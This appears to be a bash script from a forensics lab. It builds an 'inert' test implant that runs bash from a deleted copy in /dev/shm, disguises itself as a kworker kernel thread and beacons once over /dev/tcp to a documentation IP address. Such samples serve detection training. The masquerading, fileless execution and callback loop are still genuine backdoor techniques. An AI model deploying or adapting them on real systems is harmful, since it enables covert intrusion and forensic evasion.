#!/bin/bash
# The lab's implant where no compiler makes one: inert, runs from a deleted copy of bash under a kernel thread's name, and holds one
# TCP connection to 203.0.113.66, an address of TEST-NET-3 that no router forwards. It sends one line and runs no command.
cat /bin/bash >/dev/shm/kdmtmpflush
/bin/busybox chmod 700 /dev/shm/kdmtmpflush
# shellcheck disable=SC2016 # the copy expands it
(exec -a '[kworker/u8:3-events]' /dev/shm/kdmtmpflush -c '
  printf kworker/u8:3 >/proc/self/comm
  until exec 3<>/dev/tcp/203.0.113.66/4443; do sleep 5; done
  echo "FORENSIC-LAB-IMPLANT-7f3a91c2 inert test beacon" >&3
  while read -r line <&3; do :; done') </dev/null >/dev/null 2>&1 &
sleep 1
rm -f /dev/shm/kdmtmpflush
